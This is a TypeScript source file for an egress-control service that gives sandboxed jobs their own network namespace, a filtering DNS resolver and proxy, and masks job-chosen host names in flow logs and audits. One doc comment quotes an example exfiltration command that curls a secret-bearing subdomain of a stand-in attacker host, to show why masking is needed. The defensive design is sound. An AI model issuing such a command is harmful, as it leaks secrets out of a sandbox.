import type { Logger } from "pino";
import type { Registry } from "prom-client";
import { recordAudit } from "../audit/log.js";
import { AirlockError } from "../errors.js";
import type { Db } from "../store/database.js";
import { AddressPool } from "./address-pool.js";
import { DnsServer, type ResolvedAddress } from "./dns-server.js";
import { netnsEnterArgv, resolvConf } from "./enter.js";
import { createJobNetwork, type JobNetwork } from "./job-network.js";
import type { TableNames } from "./nft.js";
import {
  type AddressGuard,
  addressRule,
  compilePolicy,
  createAddressGuard,
  createFlowMetrics,
  type EgressMode,
  EgressPolicyError,
  EgressProxy,
  type Flow,
  type FlowSink,
  type JobEgress,
  nameAccess,
  newFlowId,
  proxyEnv,
  type Resolver,
  StoreFlowSink,
  systemResolver,
  teeSinks,
} from "./proxy/index.js";
import type { IpAddress } from "./proxy/ip.js";
import { reapNetworks } from "./reaper.js";

export interface EgressPorts {
  /** Explicit proxy (HTTP_PROXY/HTTPS_PROXY). */
  forward: number;
  /** Transparent HTTP: the job's tcp/80 lands here. */
  http: number;
  /** Transparent TLS: the job's tcp/443 lands here. */
  tls: number;
  /** Airlock's resolver: the job's port 53 lands here. */
  dns: number;
}

export interface EgressServiceOptions {
  db: Db;
  logger: Logger;
  pool: string;
  ports: EgressPorts;
  names: TableNames;
  /** Ports of Airlock's own endpoints a job may always call on its host-end address. */
  airlockPorts?: number[];
  /** Names Airlock resolves itself (internal services), before the host resolver. */
  hosts?: Record<string, string[]>;
  /** Where names outside `hosts` are resolved: the host's resolver unless a test brings its own. */
  resolver?: Resolver;
  /** Destinations no job reaches whatever its allowlist (the host's LAN, say). */
  denyCidrs?: string[];
  registry?: Registry;
}

export interface EgressRequest {
  jobId: string;
  runId: string;
  runnerId: string;
  mode: EgressMode;
  allow: readonly string[];
  /**
   * The job's masker, for what the network records about it. A job chooses the names it looks
   * up and connects to (`curl https://$SECRET.evil.test`), so every host name, DNS name and error
   * text of its flows, denials and log lines passes through this before it is stored or logged.
   * It must accept lower-cased text: the proxy and the resolver fold names to lower case.
   */
  mask?: (text: string) => string;
}

/** What a sandbox needs to join the job's network, and how to give it back. */
export interface ProvisionedEgress {
  enterArgv: string[];
  resolvConf: string;
  env: Record<string, string>;
  hostAddr: string;
  jobAddr: string;
  release(): Promise<void>;
}

interface LiveJob {
  net: JobNetwork;
  egress: JobEgress;
  listeners: { close(): Promise<void> }[];
  dnsRefusals?: number;
}

const maxDnsAuditsPerJob = 50;
/** How long a released job's masker is kept for flows its closing connections still report. */
const maskGraceMs = 60_000;

/**
 * The network side of a job, end to end: a namespace with its rules, a resolver that answers only
 * what the job may reach, and the proxy listeners on the job's host-end address, all recorded in
 * the flow log. One per controller; jobs come and go through provision/release.
 */
export class EgressService {
  private readonly live = new Map<string, LiveJob>();
  private readonly byAddress = new Map<string, JobEgress>();
  /** jobId → its masker; outlives the job briefly (maskGraceMs), as flows are recorded on close. */
  private readonly masks = new Map<string, (text: string) => string>();

  private constructor(
    private readonly opts: EgressServiceOptions,
    private readonly pool: AddressPool,
    private readonly dns: DnsServer,
    private readonly proxy: EgressProxy,
    private readonly sink: StoreFlowSink,
    private readonly flows: FlowSink,
  ) {}

  /** Reaps what a crashed predecessor left (namespaces, veths, the nft table), then starts serving. */
  static async start(opts: EgressServiceOptions): Promise<EgressService> {
    await reapNetworks(opts.names);
    const pool = new AddressPool(opts.pool);
    const hosts = new Map(Object.entries(opts.hosts ?? {}).map(([k, v]) => [k.toLowerCase(), v]));
    const fallback = opts.resolver ?? systemResolver;
    const resolver: Resolver = async (name) => hosts.get(name.toLowerCase()) ?? fallback(name);
    const sink = new StoreFlowSink(opts.db, {
      onError: (err: unknown) => opts.logger.error({ err }, "could not store egress flows"),
    });
    const recorded = opts.registry ? teeSinks(sink, createFlowMetrics(opts.registry)) : sink;
    // Every flow, proxied or direct, passes its job's masker before it is stored or audited.
    const flows: FlowSink = { record: (f) => recorded.record(service.current?.maskFlow(f) ?? f) };
    const base = createAddressGuard({ jobPool: [opts.pool], extraDeny: opts.denyCidrs ?? [] });
    // Addresses the operator pinned in `network.hosts` (an internal registry on a private range)
    // may be reached through those names, and only those: private ranges otherwise stay closed to
    // names, so a public name that resolves (or rebinds) to the pinned internal address still
    // fails. Hard rules always apply.
    const guard: AddressGuard = {
      check: (address, explicit, name) =>
        base.check(
          address,
          (ip) => (name !== undefined && hosts.get(name)?.includes(address)) || (explicit?.(ip) ?? false),
          name,
        ),
    };
    const service: { current?: EgressService } = {};
    const proxy = new EgressProxy({
      jobForClient: (address) => service.current?.byAddress.get(address),
      sink: flows,
      resolver,
      guard,
      onError: (err, ctx) =>
        opts.logger.warn({ ...ctx, err: service.current?.maskError(ctx.jobId, err) ?? err }, "egress proxy"),
    });
    const dns = new DnsServer({
      port: opts.ports.dns,
      pool,
      decide: (jobId, name) => {
        const job = service.current?.live.get(jobId);
        if (!job) return false;
        const access = nameAccess(job.egress.policy, name);
        return { allowed: access.allowed, passthrough: access.ports.map((port) => ({ port })) };
      },
      // Direct passthrough to an address goes by the proxy's rules: a name whose DNS points into a
      // private range opens nothing there unless the allowlist names that range (or the operator
      // pinned the name), exactly as the proxy would refuse a CONNECT to it.
      admitPassthrough: (jobId, name, address, p) => {
        const job = service.current?.live.get(jobId);
        if (!job) return false;
        const listed = (ip: IpAddress) => addressRule(job.egress.policy, ip, p.port) !== undefined;
        return guard.check(address, listed, name).ok;
      },
      resolve: async (name): Promise<ResolvedAddress[]> =>
        (await resolver(name)).filter((a) => !a.includes(":")).map((address) => ({ address, ttl: 30 })),
      onQuery: (q) => {
        if (q.answered) return;
        const name = service.current?.maskFor(q.jobId)(q.name) ?? q.name;
        opts.logger.info({ jobId: q.jobId, name, reason: q.reason }, "dns refused");
        service.current?.auditDnsRefusal(q.jobId, q.name, q.reason ?? "refused", q.withheld ?? []);
      },
      ...(opts.denyCidrs ? { extraDenied: opts.denyCidrs } : {}),
    });
    service.current = new EgressService(opts, pool, dns, proxy, sink, flows);
    return service.current;
  }

  async provision(req: EgressRequest): Promise<ProvisionedEgress> {
    let policy: JobEgress["policy"];
    try {
      policy = compilePolicy({ mode: req.mode, allow: req.allow });
    } catch (err) {
      if (err instanceof EgressPolicyError) {
        throw new AirlockError("WORKFLOW_INVALID", `egress.allow: ${err.message}`, { cause: err });
      }
      throw err;
    }
    const net = await createJobNetwork({
      jobId: req.jobId,
      pool: this.pool,
      proxyPorts: {
        http: this.opts.ports.forward,
        transparentHttp: this.opts.ports.http,
        transparentTls: this.opts.ports.tls,
      },
      dnsPort: this.opts.ports.dns,
      airlockPorts: this.opts.airlockPorts ?? [],
      mode: req.mode,
      names: this.opts.names,
      ...(this.opts.denyCidrs ? { extraDenied: this.opts.denyCidrs } : {}),
    });
    const egress: JobEgress = { jobId: req.jobId, runId: req.runId, runnerId: req.runnerId, policy };
    const job: LiveJob = { net, egress, listeners: [] };
    if (req.mask) this.masks.set(req.jobId, req.mask);
    this.live.set(req.jobId, job);
    this.byAddress.set(net.jobAddr, egress);
    try {
      await this.dns.addJob(net);
      if (req.mode !== "block") {
        for (const [role, port] of [
          ["forward", this.opts.ports.forward],
          ["http", this.opts.ports.http],
          ["tls", this.opts.ports.tls],
        ] as const) {
          job.listeners.push(await this.proxy.listen({ role, host: net.hostAddr, port }));
        }
      }
    } catch (err) {
      await this.release(req.jobId);
      throw new AirlockError(
        "SANDBOX_UNAVAILABLE",
        `cannot set up the job's network: ${(err as Error).message}`,
        {
          cause: err,
        },
      );
    }
    const proxyUrl = `http://${net.hostAddr}:${this.opts.ports.forward}`;
    return {
      enterArgv: netnsEnterArgv(net.nsPath),
      resolvConf: resolvConf(net.hostAddr),
      env: req.mode === "block" ? {} : proxyEnv(proxyUrl, [net.hostAddr]),
      hostAddr: net.hostAddr,
      jobAddr: net.jobAddr,
      release: () => this.release(req.jobId),
    };
  }

  /**
   * A refused lookup is an attempt like a refused connection: audited with the job's ids. Bounded
   * per job, so a job looping over lookups cannot flood the audit log; the rest are counted.
   */
  auditDnsRefusal(jobId: string, name: string, reason: string, withheld: string[]): void {
    const job = this.live.get(jobId);
    if (!job) return;
    job.dnsRefusals = (job.dnsRefusals ?? 0) + 1;
    if (job.dnsRefusals > maxDnsAuditsPerJob) return;
    const { runId, runnerId } = job.egress;
    const mask = this.maskFor(jobId);
    void recordAudit(this.opts.db, {
      type: "egress.dns_refused",
      actor: runnerId,
      runId,
      jobId,
      runnerId,
      data: {
        name: mask(name),
        reason,
        withheld,
        ...(job.dnsRefusals === maxDnsAuditsPerJob
          ? { note: "further refusals of this job are not audited" }
          : {}),
      },
    }).catch((err: unknown) => this.opts.logger.error({ err, jobId }, "could not audit a dns refusal"));
  }

  /** The job's masker; identity for a job that gave none (or was released long ago). */
  maskFor(jobId: string): (text: string) => string {
    return this.masks.get(jobId) ?? ((text) => text);
  }

  /** A flow as it may be stored: the job-chosen parts (host name, error text) masked. */
  maskFlow(flow: Flow): Flow {
    const mask = this.masks.get(flow.jobId);
    if (!mask) return flow;
    const masked = { ...flow, host: mask(flow.host) };
    if (flow.error !== undefined) masked.error = mask(flow.error);
    return masked;
  }

  /** An error the proxy reports for a job, for the log: its message (it may name a host) masked. */
  maskError(jobId: string | undefined, err: Error): Error | { type: string; message: string; code?: string } {
    const mask = jobId ? this.masks.get(jobId) : undefined;
    if (!mask) return err;
    const message = mask(err.message);
    if (message === err.message) return err;
    // The stack repeats the message, so the masked error is logged without it.
    const code = (err as NodeJS.ErrnoException).code;
    return { type: err.name, message, ...(code ? { code } : {}) };
  }

  /** Teardown: stop serving the job, record its non-proxied flows, remove its network. */
  private async release(jobId: string): Promise<void> {
    const job = this.live.get(jobId);
    if (!job) return;
    const mask = this.masks.get(jobId);
    if (mask) {
      // Connections closed below still report their flows; the masker must outlive them.
      setTimeout(() => {
        if (this.masks.get(jobId) === mask) this.masks.delete(jobId);
      }, maskGraceMs).unref();
    }
    this.byAddress.delete(job.net.jobAddr);
    await Promise.all(job.listeners.map((l) => l.close()));
    this.proxy.closeJob(jobId);
    await this.dns.removeJob(jobId);
    try {
      await this.recordDirectFlows(job);
    } finally {
      this.live.delete(jobId);
      await job.net.destroy();
    }
  }

  /** tcp/udp the job sent past the proxy (passthrough or refused), from the nft sets. */
  private async recordDirectFlows(job: LiveJob): Promise<void> {
    const { allowed, denied } = await job.net.flows();
    const now = new Date().toISOString();
    const base = {
      jobId: job.egress.jobId,
      runId: job.egress.runId,
      runnerId: job.egress.runnerId,
      mode: job.egress.policy.mode,
    };
    const record = (
      f: { ip: string; proto: string; port: number },
      decision: Flow["decision"],
      rule: string,
    ) =>
      this.flows.record({
        ...base,
        id: newFlowId(),
        host: f.ip,
        address: f.ip,
        port: f.port,
        protocol: "tcp",
        bytesUp: 0,
        bytesDown: 0,
        startedAt: now,
        durationMs: 0,
        connectMs: null,
        decision,
        rule,
        ...(f.proto === "udp" ? { error: "udp" } : {}),
      });
    for (const f of allowed) record(f, base.mode === "audit" ? "audited" : "allowed", "passthrough");
    for (const f of denied) record(f, "denied", base.mode === "block" ? "mode:block" : "nft:default-deny");
  }

  async close(): Promise<void> {
    await Promise.all([...this.live.keys()].map((id) => this.release(id)));
    await this.proxy.close();
    await this.dns.close();
    await this.sink.close();
    // No job is left: remove this installation's table (and switch forwarding back off if we
    // were the ones who turned it on), so a stopped controller leaves the host as it found it.
    await reapNetworks(this.opts.names);
  }
}
